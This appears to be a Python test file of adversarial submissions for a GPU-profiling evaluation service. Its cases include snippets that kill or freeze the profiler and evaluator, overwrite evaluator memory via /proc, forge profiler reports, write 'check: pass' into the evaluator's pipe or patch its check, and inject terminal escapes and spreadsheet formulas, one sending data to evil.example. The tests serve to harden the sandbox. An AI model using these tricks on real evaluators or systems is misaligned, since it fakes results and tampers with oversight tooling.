"""What a submission can claim: forged answers, forged reports, ended profilers, and text that a reader would obey."""

import csv
import io
import re

from cases import Submission, source
from service import EXPORT, MIB

# The profiler is an ancestor of the process that the submission runs in.
ANCESTORS = '''
def parent_of(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
def named(pid):
    return open(f"/proc/{pid}/cmdline").read().replace("\\0", " ")
def ancestors():
    pid, found = os.getpid(), []
    while pid > 1:
        pid = parent_of(pid)
        found.append(pid)
    return found
EVALUATOR, NCU = (ancestors() + [1, 1])[:2]
'''
# A report of the stand-in, which a daemon puts in the place of the real one as soon as that is written.
FORGE = '''
import json
def kernel(**changed):
    return {"name": "void add<float>(float *)", "mangled": "_Z3addIfEvv", "grid": [8, 1, 1], "block": [128, 1, 1], "ranges": ["custom_kernel"], "started_ns": 1,
            "duration_ns": 1000, "counters": True, "saved_bytes": 0, "pid": 7, "thread": 7, "process": "python3", **changed}
def report(kernels):
    return b"NVR\\0" + (kernels if isinstance(kernels, bytes) else json.dumps({"simulated": True, "kernels": kernels}).encode())
def forge(content):
    def wait():
        while True:
            try:
                if os.stat("/out/profile/profile.ncu-rep").st_size or not content:
                    os.rename("/out/profile/.new", "/out/profile/profile.ncu-rep")
                    return
            except OSError:
                pass
    if CAPTURING:
        with open("/out/profile/.new", "wb") as file:
            file.write(content)
        daemon(wait)
'''


def forged(content):
    return source(ANCESTORS + FORGE, "", f"forge({content})")


# A launch that the profiler is told of by the submission's own process.
NOTED = '''
def noted(name, **changed):
    folder = os.environ.get("STANDIN_NCU_TRACE_DIR")
    if folder:
        line = json.dumps({**kernel(), "name": name, "mangled": name, "pid": os.getpid(), **changed}) + "\\n"
        with open(f"{folder}/{os.getpid()}.jsonl", "a") as file:
            file.write(line)
'''
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def tables_hold(seen, service):
    """Both tables can be read, each row has its columns, and names that are forged rows are one cell."""
    wrong = []
    for name in ("ncu-details.csv", "launches.csv"):
        rows = list(csv.reader(io.StringIO(seen.read(name))))
        if not rows or any(len(row) > len(rows[0]) + 1 for row in rows):
            wrong.append(f"{name} has rows of more columns than its head")
    for name in ("ncu-details.txt", "ncu-details.csv", "launches.csv"):
        if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", seen.read(name)):
            wrong.append(f"{name} holds control characters")
    return wrong


def no_formula(seen, service):
    cells = [cell for row in csv.reader(io.StringIO(seen.read("launches.csv"))) for cell in row]
    return tables_hold(seen, service) + [f"a cell is a formula: {cell[:40]}" for cell in cells if re.match(r"[=+@\t\r]|-[^0-9]", cell)]


def is_marked(seen, service):
    """A profile whose report may be anything says so."""
    note = seen.manifest.get("note", "")
    return [] if seen.archive is None or "submission" in note else ["the manifest does not say how far it can be trusted"]


CASES = [
    Submission("kills-ncu", "18", "kills the profiler", "failed", source=source(ANCESTORS, "if CAPTURING:\n    os.kill(NCU, signal.SIGKILL)"), status="failed", error="."),
    Submission("stops-ncu", "16, 18", "stops the profiler by SIGSTOP", "timed_out", source=source(ANCESTORS, "if CAPTURING:\n    os.kill(NCU, signal.SIGSTOP)"), status="timed_out", error="did not end within"),
    Submission("interrupts-ncu", "18", "sends the profiler and the evaluator every signal", "failed, or the profile is there",
               source=source(ANCESTORS, "if CAPTURING:\n    for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM, signal.SIGINT, signal.SIGTERM):\n        for pid in (NCU, EVALUATOR):\n            try:\n                os.kill(pid, number)\n            except OSError:\n                pass"),
               status="failed|timed_out|succeeded", error=""),
    Submission("kills-the-runner", "18", "sends PID 1 every signal there is", "it lives on; the profile is there", source=source("", '''
for number in sorted(signal.valid_signals()):
    try:
        os.kill(1, number)
    except OSError:
        pass
say("sent them all")
'''), printed="sent them all"),
    Submission("kills-everything", "18", "kills every process that it may", "failed, never succeeded", source=source("", "if CAPTURING:\n    os.kill(-1, signal.SIGKILL)"), status="failed|timed_out", error="."),
    Submission("traces-the-runner", "18, 19", "attaches to PID 1 and reads and writes its memory", "refused", source=source("", '''
libc = ctypes.CDLL(None, use_errno=True)
def ptrace(request, pid):
    if libc.ptrace(request, pid, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), "")
tried("attach", ptrace, 16, 1)
tried("seize", ptrace, 0x4206, 1)
for name in ("mem", "maps", "environ", "auxv", "syscall", "stack"):
    tried(name, lambda: open("/proc/1/" + name, "rb").read(16))
tried("write", lambda: open("/proc/1/mem", "r+b").write(b"x"))
tried("files", lambda: os.readlink("/proc/1/fd/3"))
'''), tried={name: "EPERM|EACCES|ESRCH" for name in ("attach", "seize", "mem", "maps", "environ", "write", "files")}),
    Submission("evaluators-memory", "18, 23", "overwrites the memory of the evaluator, which is its own user's", "failed or timed_out: it spoils its own job only", source=source(ANCESTORS, '''
if CAPTURING:
    with open(f"/proc/{EVALUATOR}/maps") as maps, open(f"/proc/{EVALUATOR}/mem", "r+b", buffering=0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(part, 16) for part in place.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20:
                memory.seek(start)
                try:
                    memory.write(b"\\xcc" * (end - start))
                except OSError:
                    pass
'''), status="failed|timed_out", error="."),
    Submission("own-memory", "23", "writes its own code through /proc/self/mem", "its own affair; the profile is there", source=source("", '''
text = next(line for line in open("/proc/self/maps") if "r-xp" in line and "python" in line)
start = int(text.split("-")[0], 16)
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    memory.seek(start)
    same = memory.read(64)
    memory.seek(start)
    tried("code", memory.write, same)
'''), tried={"code": "done 64|EIO|EPERM|EACCES"}),
    Submission("forged-check", "23", "gives a wrong answer and writes `check: pass` into the evaluator's own pipe", "the evaluator's exit code counts: the answer is called wrong",
               source=source(ANCESTORS, "", '''
for pid in (EVALUATOR, NCU):
    for fd in range(3, 64):
        try:
            if "pipe" in os.readlink(f"/proc/{pid}/fd/{fd}"):
                file = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                if fd > 2:
                    os.write(file, b"check: pass\\n") if fd == int(os.environ.get("POPCORN_FD", "-1")) else None
        except OSError:
            pass
result = [0.0] * len(result)
'''), error="The evaluator found the answer wrong"),
    Submission("forged-check-without-kernel", "23", "launches nothing and prints `check: pass`, `==PROF== Profiling` and a report's lines", "failed: no kernel was captured",
               source=source("", 'say("check: pass\\n==PROF== Profiling \\"add\\" - 0: 0%....50%....100% - 38 passes\\n==PROF== Report: /out/profile/profile.ncu-rep")\nreturn add(*data)'), status="failed", error="No kernel was captured"),
    Submission("forged-host-trouble", "23", "prints what ncu prints when the host is not set up (ERR_NVGPUCTRPERM) and fails", "tried again as a fault of ours, within the limit, then failed",
               source=source("", 'say("==ERROR== ERR_NVGPUCTRPERM driver resource was unavailable")\nraise RuntimeError("x")'), status="failed", error=".", retried=True),
    Submission("exit-codes", "18, 23", "ends the profiler and leaves with the codes of a right and of a wrong answer, printing ncu's line for it", "failed, never succeeded",
               source=source(ANCESTORS, 'if CAPTURING:\n    say("==ERROR== The application returned an error code (112).")\n    os.kill(NCU, signal.SIGKILL)\n    os._exit(112)'), status="failed", error="."),
    *[Submission(f"exits-{code}", "18", f"leaves by os._exit({code}) inside of custom_kernel", "failed: the process ended before custom_kernel returned",
                 source=source("", f"os._exit({code})"), status="failed", error="ended before custom_kernel returned|.") for code in (0, 112, 137)],
    Submission("evaluator-exits", "18", "makes the evaluator leave with code 0 and no verdict, by a debugger's way", "failed, or a profile of what was captured", source=source(ANCESTORS, "", 'if CAPTURING:\n    os.kill(EVALUATOR, signal.SIGKILL)'),
               status="failed|succeeded", error=""),
    Submission("segfault", "18", "reads at address 0, in native code", "failed; no core is left", source=source("", "ctypes.string_at(0)"), status="failed", error="."),
    Submission("abort", "18", "aborts with a core dump asked for", "failed; no core is left", source=source("", '''
import resource
tried("core", resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
os.chdir("/out")
os.abort()
'''), status="failed", error="."),
    Submission("patched-check", "23", "replaces the evaluator's check by one that is always content", "the profile is there; a verdict from inside is a claim, and the manifest says so",
               source=source("sys.modules['__mp_main__'].run_once.__globals__['check_implementation'] = lambda *_: (True, '')", "", "result = 7"), look=is_marked),
    Submission("traced", "23", "traces and profiles every call of the evaluator in its process, by sys.settrace and audit hooks", "its own affair; the profile is there",
               source=source("calls = []\nsys.settrace(lambda *_: calls.append(1) and None)\nthreading.settrace(lambda *_: None)\nsys.addaudithook(lambda *_: None)\n")),
    Submission("clock-games", "23", "lets time run backwards and stand still in its process", "failed or the profile is there; nothing negative in the body",
               source=source("import itertools\nticks = itertools.count(10**18, -10**15)\ntime.perf_counter_ns = lambda: next(ticks)\ntime.time = lambda: -1.0\n"), status="succeeded|failed", error=""),
    Submission("names-of-others", "18", "calls itself `ncu-runner`, then `ncu`, in comm and in its arguments", "its own affair; the profile is there", source=source("", '''
libc = ctypes.CDLL(None)
for name in (b"ncu", b"ncu-runner"):
    libc.prctl(15, name, 0, 0, 0)
say(open("/proc/self/comm").read().strip())
''', 'if os.fork() == 0:\n    os.execv("/bin/sleep", ["/usr/local/bin/ncu-runner", "600"])'), printed="ncu-runner"),
    Submission("garbage-report", "13", "leaves a report that is garbage", "failed: it could not be exported", source=forged("os.urandom(100_000)"), status="failed", error="could not be exported"),
    Submission("empty-report", "13", "leaves an empty report", "failed", source=forged('b""'), status="failed", error="."),
    Submission("huge-report", "13", "leaves a report of 15 MiB that a parser unfolds", "the export fails or hits its limits: failed", source=forged('report(b"[" * (15 << 20))'), status="failed", error="could not be exported"),
    Submission("deep-report", "13", "leaves a report that nests 100,000 levels", "failed: it could not be exported", source=forged('report(b\'{"kernels":\' + b"[" * 100_000 + b"]" * 100_000 + b"}")'), status="failed", error="could not be exported"),
    Submission("export-bomb", "13", "leaves a small report whose text is a hundred megabytes", f"failed at {EXPORT // MIB} MiB of export", source=forged("report([kernel(ranges=['r' * 300] * 4) for _ in range(2500)])"), status="failed", error="could not be exported"),
    Submission("nan-report", "13", "leaves a report whose numbers are NaN and infinite", "failed, or a profile; no NaN in the manifest", source=forged("report([kernel(duration_ns=float('nan')), kernel(duration_ns=float('inf'), grid=[float('nan'), 1, 1])])"),
               status="failed|succeeded", error="", look=is_marked),
    Submission("nan-counters", "13", "launches a kernel whose every counter is NaN", "failed: nothing was measured", source=source("", "return standin_gpu.launch('k(int)', 1, 1, add, *data, counters=False)"), status="failed", error="measured no counter", retried=True),
    Submission("long-numbers", "13", "leaves a report with numbers of 400 digits", "failed, or a profile; nothing overflows on our side", source=forged("report([kernel(grid=[10**400, 1, 1], pid=10**400, thread=-10**400), kernel(duration_ns=10**300)])"),
               status="failed|succeeded", error=""),
    Submission("wide-numbers", "13", "leaves a report with launch ids, pids and sizes beyond 64 bits that can be exported", "a profile that is marked, or failed", source=forged("report([kernel(pid=10**30, thread=10**40)])"), status="failed|succeeded", error="", look=is_marked),
    Submission("terminal-escapes", "15", "launches kernels whose names hold terminal escapes, carriage returns and NUL", "none in the job's body, in the text nor in the tables; the profile is there",
               source=source("", r'''
for name in ("\x1b[2J\x1b]0;owned\x07", "a\rb\x08c", "x\x00y", "\x9b31m", "\u202eevil"):
    standin_gpu.launch(name, 1, 1, lambda: None)
'''), status="succeeded|failed", error=None, look=tables_hold),
    Submission("formula-names", "13", "launches kernels whose names are a spreadsheet's formulas", "no cell of launches.csv begins as a formula",
               source=source("", f"for name in ({FORMULA!r}, '+1', '-1+1', '@SUM(A1)', '=cmd|x'):\n    standin_gpu.launch(name, 1, 1, lambda: None)"), look=no_formula),
    Submission("forged-rows", "13", "launches kernels whose names are rows of the table and lines of the report", "they stay one cell each; as many launches as there were",
               source=source("", r'''
for name in ('x",1\n"0","1","python3"', '[9] forged@host\n  forged (1, 1, 1)\n    Section: GPU Speed Of Light Throughput', "a,b;c\td"):
    standin_gpu.launch(name, 1, 1, lambda: None)
'''), look=lambda seen, service: tables_hold(seen, service) + ([] if seen.manifest["captured_launches"] == 4 else [f"{seen.manifest['captured_launches']} launches"])),
    Submission("long-names", "13", "launches a kernel whose name has a hundred thousand characters, and one that is endless when it is demangled", "cut in the body; the profile is there",
               source=source("", 'standin_gpu.launch("n" * 100_000, 1, 1, lambda: None)\nstandin_gpu.launch("_Z1fI" + "St4pairI" + "S_S_" * 200 + "EE", 1, 1, lambda: None)'),
               look=lambda seen, service: [] if all(len(one["kernel"]) < 500 for one in seen.body["runs"][0]["launches"]) else ["a long name in the body"]),
    Submission("many-kernels", "13", "launches 20,000 kernels of 20,000 names and asks for the hot ones", "the overview keeps as many as it may; the profile is there, or timed_out",
               source=source("", 'for number in range(20_000):\n    standin_gpu.launch(f"kernel{number}()", 1, 1, lambda: None)'), fields={"ncu_capture": "hot"}, status="succeeded|timed_out", error=""),
    Submission("pattern-names", "13", "launches kernels whose names are patterns that a matcher never ends with, and asks for the hot ones", "they are matched as words; the profile is there",
               source=source("", 'for name in ("(a+)+$" , "a" * 5000 + "!", ".*", "regex:", "(", "[", "\\\\", ":::1", "|"):\n    standin_gpu.launch(name, 1, 1, lambda: None)'), fields={"ncu_capture": "hot"}),
    Submission("saves-memory", "3", "launches a kernel for which the profiler would have to save a gigabyte", "failed; the memory limit is named", source=source("", "standin_gpu.launch('k(int)', 1, 1, lambda: None, saved_bytes=1 << 30)"),
               status="failed", error="memory limit"),
]
